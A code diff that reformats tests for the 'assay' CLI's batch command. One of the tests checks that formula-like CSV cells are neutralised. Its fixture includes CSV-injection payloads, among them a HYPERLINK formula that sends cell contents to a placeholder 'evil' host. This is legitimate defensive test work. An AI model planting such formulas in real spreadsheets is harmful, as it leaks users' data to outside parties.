@@ -69,7 +69,10 @@ describe('assay batch', () => {
     expect(watched.stderr).toMatch(/100% 200\/200 done/);
 
     const jsonl = await assay(['batch', 'results', id, '--format', 'jsonl']);
-    const lines = jsonl.stdout.trimEnd().split('\n').map((l) => JSON.parse(l));
+    const lines = jsonl.stdout
+      .trimEnd()
+      .split('\n')
+      .map((l) => JSON.parse(l));
     expect(lines).toHaveLength(200);
     expect(lines[0]).toMatchObject({ name: 'company 0', upper: 'COMPANY 0', status: 'completed' });
   });
@@ -79,7 +82,10 @@ describe('assay batch', () => {
     const result = await assay(['batch', 'run', picky, '--csv', names, '--format', 'jsonl', '--interval', '100']);
     expect(result.code).toBe(1);
     expect(result.stderr).toMatch(/completed: 2 completed, 2 failed, 0 cancelled of 4/);
-    const lines = result.stdout.trimEnd().split('\n').map((l) => JSON.parse(l));
+    const lines = result.stdout
+      .trimEnd()
+      .split('\n')
+      .map((l) => JSON.parse(l));
     expect(lines.map((l) => [l.name, l.n, l.status, l.error])).toEqual([
       ['alpha', 1, 'completed', null],
       ['xavier', 2, 'failed', 'names starting with x are refused'],
@@ -105,7 +111,10 @@ describe('assay batch', () => {
 
   it('writes a --out file whose formula-like cells are neutralised with a quote (CSV injection, issue 11 item 5)', async () => {
     const attacks = ['=HYPERLINK("http://evil/?"&A1,"x")', '+1+1', '-2+3', '@SUM(1)', '\t=1'];
-    const csv = file('attacks.csv', `name,n\n${attacks.map((name, i) => `"${name.replaceAll('"', '""')}",${i % 2 === 0 ? -2 : 3}`).join('\n')}\n`);
+    const csv = file(
+      'attacks.csv',
+      `name,n\n${attacks.map((name, i) => `"${name.replaceAll('"', '""')}",${i % 2 === 0 ? -2 : 3}`).join('\n')}\n`,
+    );
     const out = path.join(dir, 'attacks-results.csv');
     const result = await assay(['batch', 'run', picky, '--csv', csv, '--out', out, '--interval', '100']);
     expect(result.code, result.stderr).toBe(0);
